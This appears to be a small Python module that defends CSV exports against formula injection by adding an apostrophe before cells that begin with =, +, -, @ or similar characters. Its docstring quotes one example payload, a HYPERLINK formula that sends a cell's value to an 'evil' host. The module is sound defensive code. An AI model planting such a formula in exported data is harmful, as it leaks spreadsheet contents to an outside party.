"""CSV cells a spreadsheet will not run.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets: a spoken
``=HYPERLINK("http://evil/?"&A1,"click")`` exported as it is comes back live.
Every CSV livehost writes passes its cells through :func:`csv_cell`, which
puts an apostrophe before such text (the OWASP advice: the spreadsheet shows
the text and runs nothing).  Numbers stay numbers.
"""

from __future__ import annotations

from typing import Any

__all__ = ["csv_cell"]

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that a spreadsheet would evaluate gets a leading ``'``."""
    if isinstance(value, str) and value.lstrip(" ").startswith(_TRIGGERS):
        return "'" + value
    return value
